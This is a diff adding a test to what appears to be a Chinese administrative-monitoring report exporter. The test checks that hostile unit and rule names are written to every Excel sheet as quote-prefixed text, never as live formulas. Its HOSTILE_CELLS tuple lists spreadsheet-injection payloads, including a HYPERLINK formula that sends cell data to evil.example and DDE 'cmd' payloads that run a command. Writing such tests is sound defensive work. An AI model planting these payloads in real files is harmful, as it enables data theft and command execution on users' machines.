@@ -128,3 +128,67 @@ def test_first_ingests_at_once_do_not_race_on_the_catalogue(db_url, tmp_path, ca
     print(f"three first ingests at once: exit codes {got}")
     assert got == [0, 0, 0], err
     assert "units_code_key" not in err and "[SQL:" not in err and "Traceback" not in err
+
+
+HOSTILE_CELLS = (
+    '=HYPERLINK("http://evil.example/"&A1,"广电局")',
+    "-2+3+cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+)  # a leading CR is neutralised too (report_export.FORMULA_STARTS), but XML reads it back as LF
+
+
+def test_xlsx_every_sheet_stores_hostile_names_as_text(Session, cal, tmp_path):
+    """Every sheet, the 督办与申诉 one among them (once filled with ``ws.append``, so a unit named ``=HYPERLINK(…)``
+    became a live formula and one starting with ``-`` had no quote prefix): each hostile value read back from the
+    file is a string cell with the quote prefix, and no cell of the workbook is a formula."""
+    import dataclasses
+
+    eq, minus, plus, at, tab = HOSTILE_CELLS
+    base = hostile_report(Session, cal, eq)
+    per_unit = [
+        {"unit_code": "D01", "unit_name": minus, "黄牌督办": 1, "申诉驳回": 0},
+        {"unit_code": "D02", "unit_name": eq, "黄牌督办": 0, "申诉驳回": 1},
+    ]
+    report = dataclasses.replace(
+        base,
+        scope_name=tab,
+        # a rule is written by its name; an id without one (a newer console's rule) as it is
+        alarms={**base.alarms, "by_rule": {plus: 2, minus: 1}, "rule_labels": {plus: at}},
+        accountability={**base.accountability, "by_sanction": {tab: 1}},
+        units_criticised={"count": 1, "units": [minus]},
+        complaints={**base.complaints, "by_channel": {at: 1}},
+        items=[
+            {
+                "item_code": eq,
+                "item_name": plus,
+                "unit_name": minus,
+                "cases": 1,
+                "avg_working_days_used": 1.0,
+                "promised_days": 5,
+                "statutory_days": 20,
+            }
+        ],
+        followup={**base.followup, "per_unit": per_unit},
+    )
+    wb = load_workbook(write(report, "xlsx", tmp_path / "r.xlsx"))
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    assert [c for c in cells if c.data_type == "f"] == []
+    hostile = {(ws.title, c.value) for ws in wb for row in ws.iter_rows() for c in row if c.value in HOSTILE_CELLS}
+    assert {
+        ("督办与申诉", minus),
+        ("督办与申诉", eq),
+        ("告警", at),
+        ("告警", minus),
+        ("责任追究", tab),
+        ("责任追究", minus),
+        ("投诉", at),
+        ("事项用时", eq),
+        ("事项用时", plus),
+        ("事项用时", minus),
+        ("单位排名", eq),
+    } <= hostile
+    starts = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert len(starts) >= 11 and all(c.data_type == "s" and c.quotePrefix for c in starts)
+    assert wb["概要"]["A1"].value.startswith("行政审批电子监察") and "\t=1+1" in wb["概要"]["A2"].value
